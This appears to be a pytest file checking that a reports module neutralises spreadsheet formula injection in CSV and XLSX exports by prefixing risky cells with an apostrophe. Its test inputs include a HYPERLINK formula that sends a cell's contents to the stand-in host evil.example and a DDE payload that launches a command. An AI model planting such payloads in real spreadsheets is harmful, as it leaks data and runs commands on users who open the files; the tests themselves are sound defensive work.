"""Spreadsheet exports neutralise formulas (OWASP ASVS 1.2.10) in both CSV and XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from assessments.reports.exports import Table, cell_safe, table_to_csv, table_to_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn", "\x00Nul"],
)
def test_text_that_could_start_a_formula_gets_a_leading_apostrophe(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Platform", "Team = good", "", "a-b"])
def test_ordinary_text_is_left_alone(value):
    assert cell_safe(value) == value


@pytest.mark.parametrize("value", [3, -0.25, 4.5, True])
def test_numbers_stay_numbers(value):
    assert cell_safe(value) == value


def test_none_becomes_an_empty_cell():
    assert cell_safe(None) == ""


def hostile_table() -> Table:
    return Table(
        columns=["team", "comment", "score", "suppressed"],
        rows=[
            [HYPERLINK, "@cmd|' /C calc'!A0", -0.5, False],
            ["\x01=1+1", "+cmd", None, True],
        ],
        title="=Scores",
    )


def test_csv_writes_neutralised_cells_with_a_bom():
    data = table_to_csv(hostile_table())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["team", "comment", "score", "suppressed"]
    assert rows[1] == ["'" + HYPERLINK, "'@cmd|' /C calc'!A0", "-0.5", "False"]
    assert rows[2][1:] == ["'+cmd", "", "True"]


def test_xlsx_holds_no_formula_and_keeps_numbers_numeric():
    workbook = load_workbook(io.BytesIO(table_to_xlsx(hostile_table())))
    sheet = workbook.active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types
    assert values[1] == ["'" + HYPERLINK, "'@cmd|' /C calc'!A0", -0.5, False]
    # The control character is dropped first, so what is left still cannot start a formula.
    assert values[2][0] == "'=1+1"
    assert sheet.title == "'=Scores"
